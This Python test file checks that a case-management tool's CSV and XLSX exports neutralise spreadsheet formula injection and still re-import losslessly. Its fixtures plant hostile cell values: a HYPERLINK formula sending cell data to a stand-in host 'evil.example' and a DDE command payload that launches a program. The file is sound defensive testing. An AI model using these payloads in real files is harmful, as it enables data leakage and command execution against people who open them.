"""No file tipsom writes runs as a spreadsheet formula, and its own files still round-trip (issue 15, 11)."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.registry_helpers import write_cases
from tipsom.core.cells import FORMULA_STARTS, neutral, restore
from tipsom.exchange.export import export_cases
from tipsom.exchange.importer import import_file
from tipsom.store.db import Store
from tipsom.store.reader import iter_documents

pytestmark = pytest.mark.usefixtures("data_key")

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
#: Free-text fields and what a hostile or careless user typed into them.
PLANTED = {
    "exploitation_place": HYPERLINK,
    "recruitment_place": "+SUM(A1:A9)",
    "address": "@cmd|' /C calc'!A0",
    "given_name": "'=not a formula either",
    "family_name": "-2+3",
    "status_decided_by": "'plain apostrophe",
    "phone": "+44 20 7946 0958",
}
_INERT_OR_SAFE = str.maketrans("", "", "0123456789 +-()./")


@given(st.text(max_size=30))
@settings(max_examples=300, deadline=None)
def test_neutral_round_trips_and_never_starts_a_formula(value: str) -> None:
    cell = neutral(value)
    assert restore(cell) == value
    if cell[:1] in FORMULA_STARTS:  # only numbers and phone numbers may start so: no letters, no quotes
        assert not cell.translate(_INERT_OR_SAFE), cell


def _planted_store(tmp_path: Path) -> Store:
    src = write_cases(tmp_path / "c.jsonl", 12)
    docs = [json.loads(line) for line in src.read_text(encoding="utf-8").splitlines()]
    docs[0]["persons"][0].update(PLANTED)
    docs[1]["closure_reason"] = "=1+1"
    planted = tmp_path / "planted.jsonl"
    planted.write_text("".join(json.dumps(d) + "\n" for d in docs), encoding="utf-8")
    store = Store.init(f"sqlite:///{tmp_path / 'a.db'}")
    import_file(store, planted, actor="t")
    return store


def _documents(store: Store) -> dict[str, dict[str, Any]]:
    with store.begin() as conn:
        return {d["case_id"]: d for d in iter_documents(conn, store.model, cipher=store.cipher)}


def _csv_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _assert_no_formula_cell(cells: list[str]) -> None:
    starting = [c for c in cells if c[:1] in FORMULA_STARTS]
    assert all(not c.translate(_INERT_OR_SAFE) for c in starting), starting


def _xlsx_formulas(path: Path) -> list[str]:
    """Cells stored as formulas (``<f>`` elements) in any sheet of a workbook."""
    with zipfile.ZipFile(path) as z:
        return [name for name in z.namelist() if name.startswith("xl/worksheets/") and b"<f>" in z.read(name)]


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_native_export_is_inert_and_round_trips(tmp_path: Path, suffix: str) -> None:
    store = _planted_store(tmp_path)
    out = tmp_path / f"out.{suffix}"
    export_cases(store, out, include_personal=True, actor="t")
    if suffix == "csv":
        cells = _csv_cells(out)
        _assert_no_formula_cell(cells)
        assert "'" + HYPERLINK in cells
        assert "''=not a formula either" in cells
        assert "+44 20 7946 0958" in cells  # phone numbers stay as they are
    else:
        assert _xlsx_formulas(out) == []
    again = Store.init(f"sqlite:///{tmp_path / 'b.db'}")
    assert import_file(again, out, actor="t").rejected == 0
    assert _documents(again) == _documents(store)
    person = next(iter(_documents(again).values()))["persons"][0]
    assert {k: person[k] for k in PLANTED} == PLANTED


def test_htcds_export_is_inert_and_round_trips(tmp_path: Path) -> None:
    store = _planted_store(tmp_path)
    out = tmp_path / "htcds.xlsx"
    export_cases(store, out, fmt="htcds", include_personal=True, actor="t")
    assert _xlsx_formulas(out) == []
    again = Store.init(f"sqlite:///{tmp_path / 'b.db'}")
    assert import_file(again, out, fmt="htcds", actor="t").rejected == 0
    first = next(iter(_documents(store)))
    person = _documents(again)[first]["persons"][0]
    assert person["exploitation_place"] == HYPERLINK
    assert person["given_name"] == PLANTED["given_name"]


def test_rejects_file_is_inert_and_reimports(tmp_path: Path) -> None:
    src = write_cases(tmp_path / "c.csv", 10)
    with src.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    alone = next(i for i, r in enumerate(rows) if [x["case_id"] for x in rows].count(r["case_id"]) == 1)
    rows[alone].update(exploitation_place=HYPERLINK, sex="Femal")
    bad = tmp_path / "bad.csv"
    with bad.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    store = Store.init()
    rejects = tmp_path / "rejects.csv"
    import_file(store, bad, actor="t", skip_invalid=True, rejects_path=rejects)
    cells = _csv_cells(rejects)
    _assert_no_formula_cell(cells)
    assert "'" + HYPERLINK in cells
    fixed = tmp_path / "fixed.csv"
    fixed.write_text(rejects.read_text(encoding="utf-8").replace("Femal", "Female"), encoding="utf-8")
    with fixed.open(newline="", encoding="utf-8") as fh:
        kept = [{k: v for k, v in r.items() if not k.startswith("_")} for r in csv.DictReader(fh)]
    clean = tmp_path / "clean.csv"
    with clean.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(kept[0]))
        writer.writeheader()
        writer.writerows(kept)
    assert import_file(store, clean, actor="t").written.persons_created == 1
    person = _documents(store)[rows[alone]["case_id"]]["persons"][0]
    assert person["exploitation_place"] == HYPERLINK
